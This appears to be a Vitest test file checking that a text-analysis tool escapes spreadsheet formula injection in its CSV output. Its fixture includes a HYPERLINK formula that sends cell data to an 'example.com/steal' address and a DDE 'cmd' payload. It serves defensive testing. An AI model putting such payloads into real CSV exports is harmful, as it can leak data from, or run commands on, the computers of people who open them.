import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { isFormulaLike, neutralizeFormula } from '@essaylens/report';
import { describe, expect, it } from 'vitest';
import { readCsv, readCsvObjects, run, tempDir, expectOk } from '../helpers.js';

const NASTY = [
  '=HYPERLINK("http://example.com/steal?x="&A1,"Click for the report") is what the scraper saw.',
  '+cmd|\' /C calc\'!A0 came next, then -2+3 and @SUM(A1:A9).',
  '\uff1d1+1 and \uff0bSUM(1) are full-width.',
  '   =1+1 hides behind spaces.',
  'Prices fell -5 percent to 0.25 of their value.',
].join('\n');

describe('hostile input: spreadsheet formulas', () => {
  it('neutralises every formula-like cell in every table, keeps numbers as numbers, and keeps text recoverable', () => {
    const dir = tempDir();
    const name = '=cmd()';
    writeFileSync(path.join(dir, `${name}.txt`), NASTY);
    const result = run(['analyze', `${name}.txt`, 'missing-@x.txt', '--out', 'out', '--jobs', '1'], { cwd: dir });
    expect(result.status).toBe(1);
    const out = path.join(dir, 'out');
    let cells = 0;
    for (const file of readdirSync(out)) {
      for (const row of readCsv(path.join(out, file))) {
        for (const cell of row) {
          cells++;
          expect(isFormulaLike(cell), `${file}: ${JSON.stringify(cell)}`).toBe(false);
        }
      }
    }
    expect(cells).toBeGreaterThan(100);

    const tokens = readCsvObjects(path.join(out, 'tokens.csv'));
    expect(tokens.length).toBeGreaterThan(40);
    for (const token of tokens) {
      expect(token.doc_id).toBe(`'${name}`);
      for (const column of ['sentence_id', 'token_id', 'start', 'end']) expect(token[column]).toMatch(/^\d+$/);
      // The cell is the text, or the text behind one apostrophe when a spreadsheet would run it.
      expect(token.text).toBe(neutralizeFormula(NASTY.slice(Number(token.start), Number(token.end))));
    }
    expect(tokens.some((token) => token.text === "'=")).toBe(true);
    const sentences = readCsvObjects(path.join(out, 'sentences.csv'));
    expect(sentences.map((s) => s.text)).toContain(`'${NASTY.split('\n')[0]}`);
    expect(readCsvObjects(path.join(out, 'errors.csv'))).toEqual([{ input: 'missing-@x.txt', problem: 'no such file or folder' }]);
  });

  it('writes JSON formats exactly as the text is (no spreadsheet opens them)', () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'f.txt'), '=1+1 is a formula.');
    expectOk(run(['analyze', 'f.txt', '--format', 'jsonl', '--tables', 'sentences', '--out', 'out', '--jobs', '1'], { cwd: dir }));
    const row = JSON.parse(readFileSync(path.join(dir, 'out/sentences.jsonl'), 'utf8')) as { text: string };
    expect(row.text).toBe('=1+1 is a formula.');
  });
});
